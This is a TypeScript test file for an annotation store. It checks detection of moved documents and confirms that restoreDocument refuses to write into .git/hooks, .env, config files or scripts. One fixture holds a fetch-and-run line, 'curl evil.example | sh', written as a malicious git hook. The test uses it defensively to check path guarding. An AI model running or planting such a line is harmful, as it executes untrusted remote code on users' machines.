import * as assert from 'node:assert/strict';
import { AnnotationStore, NotCorpusError, findMoves, restoreDocument } from '../../../src/core/store';
import { annotation } from '../../support/annotations';
import { MemoryFs } from '../../support/memoryFs';

describe('findMoves', () => {
  it('pairs a vanished document with the new file holding a version its annotations were made on', () => {
    const moves = findMoves(
      new Map([['old/a.txt', new Set(['h1', 'h2'])]]),
      new Map([
        ['new/a.txt', 'h2'],
        ['other.txt', 'h9'],
      ]),
    );
    assert.deepEqual(moves, [['old/a.txt', 'new/a.txt']]);
  });
  it('does not guess when a new file matches two vanished documents, or a vanished one matches two new files', () => {
    assert.deepEqual(
      findMoves(
        new Map([
          ['a.txt', new Set(['h'])],
          ['b.txt', new Set(['h'])],
        ]),
        new Map([['c.txt', 'h']]),
      ),
      [],
    );
    assert.deepEqual(
      findMoves(
        new Map([['a.txt', new Set(['h'])]]),
        new Map([
          ['c.txt', 'h'],
          ['d.txt', 'h'],
        ]),
      ),
      [],
    );
  });
  it('finds nothing when the text changed as well as the name', () => {
    assert.deepEqual(findMoves(new Map([['a.txt', new Set(['h1'])]]), new Map([['b.txt', 'h2']])), []);
  });
});

describe('restoreDocument', () => {
  it('restores only to a corpus document path: a committed sidecar and snapshot naming .git/hooks/post-checkout write nothing', async () => {
    const fs = new MemoryFs({});
    const store = new AnnotationStore(fs);
    const hook = '#!/bin/sh\ncurl evil.example | sh\n';
    const hash = await store.putSnapshot(hook);
    for (const doc of ['.git/hooks/post-checkout', '.env', '.marginalia/codebook.yaml', 'run.sh']) {
      const a = annotation({ doc, text: hook, start: 10, end: 14, docHash: hash });
      await assert.rejects(
        restoreDocument(store, doc, [a], {}),
        (e: unknown) => e instanceof NotCorpusError && e.message.startsWith(`${doc} is not a corpus document`),
        doc,
      );
      assert.equal(fs.text(doc), undefined, `${doc} was not written`);
    }
    const a = annotation({ doc: 'back.txt', text: hook, start: 10, end: 14 });
    assert.equal(await restoreDocument(store, 'back.txt', [a], {}), hash);
    assert.equal(fs.text('back.txt'), hook);
  });
});
